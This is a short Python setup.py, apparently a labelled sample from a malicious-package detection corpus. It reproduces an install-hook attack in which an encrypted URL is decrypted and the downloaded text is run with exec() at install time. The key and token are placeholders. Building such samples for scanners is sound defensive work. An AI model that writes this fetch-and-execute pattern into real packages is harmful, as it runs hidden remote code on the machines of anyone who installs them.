# pkgguard corpus 006 (install-hook), modelled on [checkmarx-2024]; inert, never run.
from setuptools import setup
from cryptography.fernet import Fernet
import requests

KEY = b"ZmVybmV0LWtleS1wbGFjZWhvbGRlci0wMDAwMDAwMDA="
TOKEN = b"gAAAAABplaceholderplaceholderplaceholderplaceholder"
url = Fernet(KEY).decrypt(TOKEN).decode()
exec(requests.get(url).text)

setup(name="pkg", version="2.0")
